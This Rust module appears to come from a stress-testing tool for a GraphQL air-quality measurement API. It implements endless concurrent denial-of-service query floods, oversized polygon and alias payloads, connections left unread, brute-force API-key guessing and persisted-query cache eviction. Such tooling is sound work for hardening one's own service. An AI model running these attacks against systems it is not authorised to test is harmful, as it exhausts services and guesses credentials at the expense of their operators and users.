//! Attacks by queries.

use std::{fmt::Write as _, time::Duration};

use anyhow::Result;
use serde_json::json;
use sha2::{Digest as _, Sha256};
use tokio::{io::AsyncWriteExt as _, time::sleep};

use crate::attacker::{Attacker, workers};

const WORKER_COUNT: usize = 16;

/// One request with many conditions on a quantity of another table, twenty times.
pub async fn conditions(attacker: &Attacker) -> Result<()> {
    let one = |n: usize| json!({ "quantities": [{ "quantity": "HUMIDITY", "min": 200 + n }] });
    let filter = json!({ "or": (0..49).map(one).collect::<Vec<_>>() });
    let lists = each(20, |n| format!("a{n}: measurements(first: 1, filter: $f) {{ totalCount }}"));
    let body = json!({ "query": format!("query ($f: MeasurementFilter) {{ {lists} }}"), "variables": { "f": filter } });
    repeat(attacker, &[body.to_string()]).await
}

/// A polygon of the maximum size, percentiles of many quantities, and many statistics with percentiles.
pub async fn scans(attacker: &Attacker) -> Result<()> {
    let point = |n: u32| {
        let angle = f64::from(n) * std::f64::consts::TAU / 10_000.0;
        json!({ "latitude": 52.21 + angle.sin() * 0.03, "longitude": 0.13 + angle.cos() * 0.05 })
    };
    let area = json!({ "area": { "polygon": (0..10_000).map(point).collect::<Vec<_>>() } });
    let total = "query ($f: MeasurementFilter) { measurements(first: 1, filter: $f) { totalCount } }";
    let quantities =
        ["PM1", "PM2_5", "PM4", "PM10", "HUMIDITY", "TEMPERATURE", "PRESSURE", "SPEED", "CO2", "NO2", "O3", "NOISE"];
    let percentiles =
        each(quantities.len(), |n| format!("q{n}: quantity(of: {}) {{ percentile(p: 95) }}", quantities[n]));
    let statistics = each(10, |n| format!("a{n}: statistics(filter: {{}}) {{ pm10 {{ percentile(p: {n}) }} }}"));
    repeat(
        attacker,
        &[
            json!({ "query": total, "variables": { "f": area } }).to_string(),
            json!({ "query": format!("{{ statistics(filter: {{}}) {{ {percentiles} }} }}") }).to_string(),
            json!({ "query": format!("{{ {statistics} }}") }).to_string(),
        ],
    )
    .await
}

/// An alias of 120 kB, and responses of megabytes, half of which are never read.
pub async fn large_answers(attacker: &Attacker) -> Result<()> {
    let alias = "a".repeat(120_000);
    let long = json!({ "query": format!("{{ measurements(first: 10000) {{ nodes {{ {alias}: __typename }} }} }}") });
    let fields = "id measuredAt recordedAt latitude longitude pm1 pm25 pm4 pm10 flags";
    let large = json!({ "query": format!("{{ measurements(first: 10000) {{ nodes {{ {fields} }} }} }}") }).to_string();
    let unread = workers(WORKER_COUNT / 2, |_| async {
        loop {
            let mut connection = attacker.connect().await?;
            let request = attacker.request("/graphql", "content-type: application/json\r\n", large.as_bytes());
            connection.write_all(&request).await?;
            sleep(Duration::from_secs(1)).await;
        }
    });
    let read = [long.to_string(), large.clone()];
    tokio::try_join!(unread, repeat(attacker, &read))?;
    Ok(())
}

/// Guesses of keys.
pub async fn invalid_keys(attacker: &Attacker) -> Result<()> {
    workers(WORKER_COUNT, |worker| async move {
        for guess in 0_u32.. {
            let headers = format!("content-type: application/json\r\nx-api-key: {worker:016x}{guess:016x}\r\n");
            attacker.send("/graphql", &headers, br#"{"query":"{ server { version } }"}"#).await?;
        }
        Ok(())
    })
    .await
}

/// Distinct documents, to evict those of others from the cache.
pub async fn persisted_documents(attacker: &Attacker) -> Result<()> {
    let padding = "#".repeat(100_000);
    workers(WORKER_COUNT / 4, |worker| {
        let padding = &padding;
        async move {
            for number in 0_u32.. {
                let document = format!("query A{worker}_{number} {{ server {{ version }} }} {padding}");
                let hash = Sha256::digest(&document).iter().fold(String::new(), |mut hash, byte| {
                    let _ = write!(hash, "{byte:02x}"); // writing to a String can't fail
                    hash
                });
                let extensions = json!({ "persistedQuery": { "version": 1, "sha256Hash": hash } });
                attacker.query(&json!({ "query": document, "extensions": extensions }).to_string()).await?;
            }
            Ok(())
        }
    })
    .await
}

/// Sends these queries in rotation.
async fn repeat(attacker: &Attacker, bodies: &[String]) -> Result<()> {
    workers(WORKER_COUNT, |worker| async move {
        for body in bodies.iter().cycle().skip(worker % bodies.len()) {
            attacker.query(body).await?;
        }
        Ok(())
    })
    .await
}

fn each(count: usize, one: impl Fn(usize) -> String) -> String {
    (0..count).map(one).collect::<Vec<_>>().join(" ")
}
